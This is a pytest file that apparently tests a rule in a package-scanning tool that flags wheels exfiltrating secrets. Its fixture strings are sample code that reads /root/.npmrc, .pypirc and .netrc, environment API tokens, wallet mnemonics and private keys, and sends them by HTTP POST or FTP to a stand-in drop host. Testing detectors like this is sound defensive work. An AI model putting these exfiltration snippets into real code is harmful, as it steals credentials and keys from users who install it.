"""Credentials that code sends when it is called, and that no client has a use for."""

import pytest

from tests.analysis.inspecting import of_rule, wheel

SINK = "https://drop.pratique-test.invalid/c"
_FILES = (
    "import pathlib, requests\nFILES = {}\ndef load():\n    requests.post('"
    + SINK
    + "', json=[pathlib.Path(f).read_text() for f in FILES])\n"
)
_KEYS = "import os, requests\ndef start():\n    requests.post('" + SINK + "', json=[{}])\n"
_SENT = (
    "import requests\nclass C:\n    def __init__(self, {0}):\n        self.{0} = {0}\n    def go(self):\n        requests.post('"
    + SINK
    + "', json=[self.{0}])\n"
)
_FTP = "import ftplib\ndef load(path):\n    f = ftplib.FTP('drop.pratique-test.invalid')\n    f.login('u', {})\n    f.storbinary('STOR x', open(path, 'rb'))\n"


def held(source: str) -> bool:
    return bool(of_rule(wheel({"parcel/__init__.py": source}), "attack-chain"))


@pytest.mark.parametrize(
    "source",
    [
        _FILES.format("['/root/.npmrc', '/root/.pypirc', '/root/.netrc']"),
        _KEYS.format("os.environ['ALPHA_TOKEN'], os.environ['BETA_TOKEN'], os.environ['GAMMA_API_KEY']"),
        _SENT.format("mnemonic"),
        _SENT.format("wallet_private_key"),
        "import solders.keypair\n" + _SENT.format("private_key"),
        _FTP.format("'marker-1'"),
    ],
)
def test_what_nobody_hands_out_is_held(source: str) -> None:
    assert held(source)


@pytest.mark.parametrize(
    "source",
    [
        _FILES.format("['/root/.npmrc']"),
        _KEYS.format("os.environ['ALPHA_TOKEN'], os.environ['ALPHA_SECRET'], os.environ['ALPHA_API_KEY']"),
        _KEYS.format("os.environ['API_TOKEN'], os.environ['DB_PASSWORD'], os.environ['CLIENT_SECRET']"),
        _SENT.format("token"),
        _SENT.format("private_key"),
        _FTP.format("path"),
    ],
)
def test_what_clients_send_is_not(source: str) -> None:
    assert not held(source)
